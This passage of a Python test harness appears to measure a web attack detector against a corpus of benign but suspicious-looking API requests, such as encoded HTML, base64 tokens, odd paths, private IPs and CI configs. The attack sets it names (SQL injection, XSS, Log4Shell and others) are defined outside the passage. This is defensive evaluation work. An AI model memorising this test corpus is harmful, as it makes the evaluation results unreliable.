        js(b, "/api/v1/posts", {"title": "Fish &amp; chips", "html": "<p>Fish &amp; chips &lt;3</p>"}),
        js(b, "/api/v1/posts", {"title": "Formatting", "html": "<p>Use &lt;b&gt; for bold and &lt;i&gt; for italics.</p>"}),
        js(b, "/api/v1/posts", {"title": "Menu", "html": "<p>Caf&eacute; menu &#8212; soup &euro;5 &middot; salad &#x20AC;7</p>"}),
        js(b, "/api/v1/posts", {"title": "Footer", "html": "<footer>&copy; 2024 Acme&nbsp;Inc. &#169; All rights reserved</footer>"}),
        js(b, "/api/v1/posts", {"title": "Quote", "html": "<blockquote>&ldquo;Less is more&rdquo; &mdash; Mies</blockquote>"}),
        js(b, "/api/v1/posts", {"title": "Link", "html": "<p>See <a href=\"https://docs.example.com/guide?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener\">the guide</a>.</p>"}),
        form(b, "/api/v1/comments", {"body": "5 &lt; 7 &amp;&amp; 7 &gt; 5", "post": "12"}),
        js(b, "/api/v1/posts", {"title": "Table", "html": "<table><tr><th>Size</th><td>10&times;20&nbsp;cm</td></tr></table>"}),
    ]
    # base64 blobs and JWT-ish tokens
    r += [
        js(b, "/api/v1/uploads/inline", {"name": "icon.png", "data": b64(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(200)))}),
        js(b, "/api/v1/configs", {"name": "app", "content": b64(json.dumps({"theme": "dark", "retries": 3, "select": ["a", "b"]})), "encoding": "base64"}),
        js(b, "/api/v1/docs", {"title": "notes", "content": b64("Please select a plan and union members will review. Drop by at 5."), "encoding": "base64"}),
        js(b, "/api/v1/keys", {"name": "laptop", "public_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG8s8x3q0u3v1mWcQe1X8cQ8k8r0P3vUeXQ5D1Wm3h3a jane@laptop"}),
        get(b, "/api/v1/cursor", raw="after=eyJpZCI6MTIzNCwidHMiOiIyMDI0LTA0LTAxIn0%3D&limit=50"),
        js(b, "/api/v1/certs", {"pem": "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUE3m9l0Qd0Yf4n7C3cSx+Q3c2l5gwCgYIKoZIzj0EAwIw\nEjEQMA4GA1UEAwwHdGVzdC1jYTAeFw0yNDA0MDEwMDAwMDBaFw0zNDA0MDEwMDAw\n-----END CERTIFICATE-----\n"}),
    ]
    # JSON unicode escapes of normal text
    r += [
        raw_json(b, "/api/v1/users", '{"name": "Zo\\u00eb", "city": "\\u6771\\u4eac"}'),
        raw_json(b, "/api/v1/posts", '{"title": "\\u201cHello\\u201d \\u2014 she said", "lang": "en"}'),
        raw_json(b, "/api/v1/notes", '{"text": "a \\u003c b and c \\u003e d; total \\u0026 tax"}'),
        raw_json(b, "/api/v1/users", '{"name": ' + json_u("Jane O'Neil") + ', "role": ' + json_u("editor") + "}"),
        raw_json(b, "/api/v1/messages", '{"text": "\\ud83d\\ude00 see you at 8\\u0021"}'),
        raw_json(b, "/api/v1/translations", '{"key": "path.sep", "value": "Use \\u002f as separator"}'),
    ]
    # paths: matrix params, encoded slashes, dots and tildes, FQDNs
    r += [
        path(b, "/api/v1/cars;color=red;year=2020/models"),
        path(b, "/api/v1/maps;zoom=12;lat=52.1;lon=21.0/tiles/5/17/10.png"),
        path(b, "/api/v4/projects/acme%2Fshop/issues?state=opened"),
        path(b, "/api/v4/projects/group%2Fsub%2Fapp/repository/files/src%2Fmain.py/raw?ref=main"),
        path(b, "/api/v1/files/~jane/report.v2.final.pdf"),
        path(b, "/api/v1/packages/lodash/4.17.21"),
        path(b, "/api/v1/packages/%40types%2Fnode/20.11.5"),
        path(b, "/api/v1/archives/backup-2024-04-01.tar.gz"),
        path(b, "/api/v1/domains/example.com."),
        path(b, "/api/v1/configs/config.d/app.yaml"),
        path(b, "/.well-known/openid-configuration"),
        path(b, "/api/v1/wiki/C%23_(programming_language)"),
        path(b, "/api/v1/wiki/AT%26T"),
        path(b, "/api/v1/users/me/avatar;v=3"),
        Req(b, "HEAD", "/api/v1/files/reports%2F2024%2FQ1%20summary.xlsx", {}),
    ]
    # query syntaxes: pollution, arrays, brackets, OData
    r += [
        get(b, "/api/v1/products", raw="tag=red&tag=blue&tag=green"),
        get(b, "/api/v1/products", raw="ids%5B%5D=1&ids%5B%5D=2&ids%5B%5D=3"),
        get(b, "/api/v1/products", raw="filter%5Bstatus%5D=open&filter%5Bowner%5D=me&sort=-created_at,name"),
        get(b, "/odata/Products", raw="$filter=" + q("Name eq 'Milk' and Price lt 2.55") + "&$select=Name,Price&$orderby=" + q("Price desc") + "&$top=10"),
        get(b, "/odata/Orders", raw="$filter=" + q("contains(ShipCity,'o') or year(OrderDate) eq 2024") + "&$expand=Customer"),
        get(b, "/api/v1/issues", {"q": "is:open label:\"good first issue\" -label:wontfix"}),
        get(b, "/api/v1/search", {"q": "title:(\"union square\" OR \"times square\") AND NOT closed"}),
        get(b, "/api/v1/logs", {"query": "status>=500 | stats count by path"}),
        get(b, "/api/v1/metrics", {"query": "sum(rate(http_requests_total{job=\"api\",code=~\"5..\"}[5m])) by (route)"}),
        get(b, "/api/v1/products", {"price": "10..20", "sort": "price:asc"}),
    ]
    # network inventory: private and IPv6 addresses as data
    r += [
        js(b, "/api/v1/hosts", {"hostname": "db-1", "ipv4": "10.0.0.1", "ipv6": "fe80::1ff:fe23:4567:890a", "gateway": "192.168.1.1", "netmask": "255.255.255.0"}),
        js(b, "/api/v1/firewall/allowlist", {"cidrs": ["127.0.0.1/32", "::1/128", "10.0.0.0/8", "172.16.0.0/12"], "comment": "office + loopback"}),
        get(b, "/api/v1/ipam/addresses", {"cidr": "10.0.0.0/24", "family": "4"}),
        js(b, "/api/v1/dns/records", {"type": "AAAA", "name": "www", "value": "2001:db8::1", "ttl": 300}),
        js(b, "/api/v1/dns/records", {"type": "PTR", "name": "1.0.0.10.in-addr.arpa", "value": "db-1.internal.example.com"}),
        js(b, "/api/v1/hosts", {"hostname": "edge", "interfaces": [{"name": "eth0", "addr": "0.0.0.0", "mode": "dhcp"}, {"name": "lo", "addr": "127.0.0.1"}]}),
        js(b, "/api/v1/hosts", {"hostname": "router", "ipv6": "::ffff:192.0.2.128", "link_local": "fe80::", "mtu": 1500}),
        js(b, "/api/v1/vpn/peers", {"endpoint": "198.51.100.7:51820", "allowed_ips": "10.8.0.2/32, fd86:ea04:1115::2/128"}),
    ]
    # schedules, CI and shell-looking configuration
    r += [
        js(b, "/api/v1/jobs", {"name": "cleanup", "schedule": "*/5 * * * *", "timezone": "Europe/Warsaw"}),
        js(b, "/api/v1/jobs", {"name": "yearly", "schedule": "0 0 1 1 *"}),
        js(b, "/api/v1/jobs", {"name": "backup", "schedule": "@daily", "retention": "7d"}),
        js(b, "/api/v1/pipelines", {"steps": [{"name": "test", "run": "npm ci && npm test"}, {"name": "build", "run": "npm run build -- --prod"}]}),
        js(b, "/api/v1/pipelines", {"yaml": "stages: [test, deploy]\ntest:\n  script:\n    - make test\ndeploy:\n  script:\n    - ./deploy.sh $CI_COMMIT_SHA\n  only: [main]\n"}),
        js(b, "/api/v1/pipelines", {"workflow": "steps:\n  - uses: actions/checkout@v4\n  - run: npm publish\n    env:\n      NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n"}),
        js(b, "/api/v1/builds", {"dockerfile": "FROM node:20-alpine\nWORKDIR /app\nCOPY . .\nRUN npm ci && npm run build\nCMD [\"node\", \"dist/server.js\"]\n"}),
        js(b, "/api/v1/configs", {"tsconfig": {"extends": "../tsconfig.base.json", "compilerOptions": {"outDir": "./dist", "paths": {"@/*": ["./src/*"]}}}}),
        js(b, "/api/v1/configs", {"gitignore": "node_modules/\n*.log\n.env\ndist/\n"}),
        js(b, "/api/v1/snippets", {"lang": "bash", "code": "for f in *.csv; do wc -l \"$f\"; done"}),
        js(b, "/api/v1/snippets", {"lang": "js", "code": "const total = items.reduce((a, b) => a + b.price, 0);\nconsole.log(`Total: ${total}`);"}),
        js(b, "/api/v1/deps", {"dependencies": {"react": "^18.2.0", "lodash": ">=4.17.0 <5", "typescript": "~5.4.0 || ^5.5.0"}}),
    ]
    # filters, templates and placeholders
    r += [
        js(b, "/api/v1/search/es", {"query": {"bool": {"must": [{"match": {"title": "select committee"}}], "must_not": [{"term": {"status": "deleted"}}]}}}),
        js(b, "/api/v1/reports", {"filter": "status eq 'open' and priority gt 2", "order_by": "created_at desc"}),
        js(b, "/api/v1/products/search", {"price": {"gte": 10, "lte": 20}, "tags": {"in": ["sale", "new"]}}),
        js(b, "/api/v1/translations", {"key": "cart.items", "value": "{count, plural, one {# item} other {# items}}"}),
        js(b, "/api/v1/templates", {"name": "welcome", "body": "Hello {{first_name}}, your code is {{code}}."}),
        js(b, "/api/v1/templates", {"name": "invoice", "body": "Amount due: ${amount} by ${due_date}"}),
        js(b, "/api/v1/ledger", {"line": "Refund", "amount_display": "$(1,234.56)", "currency": "USD"}),
        js(b, "/api/v1/validators", {"field": "email", "regex": "^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9-]+(?:\\.[a-zA-Z0-9-]+)*$"}),
        js(b, "/api/v1/notes", {"body": "Formula: \\frac{a}{b} \\cdot \\sqrt{x} and 2^10 = 1024; (a+b)*(c-d)"}),
        js(b, "/api/v1/notes", {"body": "Line one\n\tIndented\r\nWindows line\fpage break\x0bvertical tab"}),
        js(b, "/api/v1/imports", {"tsv": "sku\tname\tqty\nA1\tMug\t2\nA2\tPlate | large\t1\n"}),
        js(b, "/api/v1/assets", {"name": "shared drive", "path": "\\\\fileserver01\\shared\\reports", "os": "windows"}),
        js(b, "/api/v1/assets", {"name": "installer", "path": "C:\\Program Files\\Acme\\app.exe"}),
        js(b, "/api/v1/oauth/apps", {"name": "dev app", "redirect_uris": ["https://app.example.com/callback", "http://localhost:3000/callback"]}),
        js(b, "/api/v1/products", {"title": "Apple MacBook Pro 14\" (M3, 2023) \u2013 16GB/512GB", "sku": "MBP-14-M3"}),
        js(b, "/api/v1/contacts", {"email": "\"john..doe\"@example.com", "phone": "+1 (555) 123-4567 ext. 89"}),
        js(b, "/api/v1/search/saved", {"name": "unions", "q": "union jack flag"}),
        js(b, "/api/v1/courses", {"title": "Script writing for film", "tags": ["script", "screenplay", "select"]}),
        js(b, "/api/v1/messages", {"text": "pls don't drop the table, it's my grandma's :)"}),
    ]
    # JSON shapes: duplicate keys, odd keys, deep nesting, arrays
    r += [
        raw_json(b, "/api/v1/settings", '{"theme": "light", "theme": "dark"}'),
        js(b, "/api/v1/settings", {"user.name": "jane", "a/b": 1, "@context": "https://schema.org", "$schema": "https://json-schema.org/draft/2020-12/schema"}),
        js(b, "/api/v1/trees", nest([f"n{i}" for i in range(30)], {"leaf": True})),
        js(b, "/api/v1/matrix", {"m": [[[[[[1, 2], [3, 4]]]]]]}),
        js(b, "/api/v1/translations/bulk", {"en": {"a": "Save"}, "pl": {"a": "Zapisz"}, "ja": {"a": "保存"}, "ar": {"a": "حفظ"}}, ascii_only=False),
    ]
    # charsets, forms and uploads
    r += [
        charset_json(b, "/api/v1/users", {"name": "Zoë", "city": "Łódź"}, "utf-16"),
        Req(b, "POST", "/api/v1/contact", {"Content-Type": "application/x-www-form-urlencoded; charset=ISO-8859-1"}, b"name=Ren%E9e&city=K%F6ln&msg=Gr%FC%DFe"),
        charset_form(b, "/api/v1/contact", {"name": "Renée", "msg": "Grüße aus Köln"}, "latin-1"),
        form(b, "/api/v1/contact", {"name": "Anaïs", "message": "50% off? I'd like 2 \u00d7 mugs & 1 plate; thanks!"}),
        form(b, "/api/v1/search", {"q": "a|b|c", "mode": "regex"}),
        multipart(b, "/api/v1/uploads", [("file", b"%PDF-1.4\n", "Zoë résumé (final).pdf", "application/pdf")]),
        multipart(b, "/api/v1/uploads", [("items[0][name]", "Mug", None, None), ("items[0][qty]", "2", None, None), ("items[1][name]", "Plate", None, None)]),
        multipart(b, "/api/v1/uploads", [("file", b"a,b\n1,2\n", "data.v2.final~backup.csv", "text/csv")]),
        multipart(b, "/api/v1/uploads", [("file", "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&#169; Acme &amp; Co</text></svg>", "logo.svg", "image/svg+xml")]),
        xml(b, "/api/v1/feeds", '<?xml version="1.0" encoding="UTF-8"?><feed><title>News &amp; updates</title><entry><title>Caf&#233; opens</title></entry></feed>'),
        Req(b, "POST", "/api/v1/feeds", {"Content-Type": "application/xml"}, '<?xml version="1.0" encoding="UTF-16"?><note><to>Zoë</to><body>Hi</body></note>'.encode("utf-16")),
        xml(b, "/api/v1/feeds", '<?xml version="1.0"?><!DOCTYPE html><note><body>plain doctype, no entities</body></note>'),
    ]
    # headers
    r += [
        Req(b, "GET", "/api/v1/feed", {"Accept-Language": "zh-CN,zh;q=0.9,en;q=0.8,pl;q=0.7"}),
        Req(b, "GET", "/api/v1/feed", {"User-Agent": "curl/8.4.0"}),
        Req(b, "GET", "/api/v1/feed", {"User-Agent": "python-requests/2.31.0"}),
        Req(b, "GET", "/api/v1/feed", {"User-Agent": "okhttp/4.12.0"}),
        Req(b, "GET", "/api/v1/feed", {"X-Forwarded-For": "2001:db8::1, 10.0.0.5", "X-Real-IP": "2001:db8::1"}),
        Req(b, "GET", "/api/v1/feed", {"Cookie": "prefs=%7B%22lang%22%3A%22pl%22%2C%22cur%22%3A%22PLN%22%7D; name=Zo%C3%AB"}),
        Req(b, "GET", "/api/v1/feed", {"Referer": "https://www.google.com/search?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3"}),
        Req(b, "GET", "/api/v1/files/report.pdf", {"Content-Disposition": "attachment; filename*=UTF-8''Zo%C3%AB%20r%C3%A9sum%C3%A9.pdf"}),
    ]
    return r


def attack_requests() -> list[Req]:
    return check(sqli() + xss() + rce() + traversal() + ssrf() + ssti() + log4shell() + nosqli() + xxe())


def benign_requests() -> list[Req]:
    return check(benign())


def main() -> None:
    evaluate(attack_requests(), benign_requests(), __doc__)


if __name__ == "__main__":
    main()
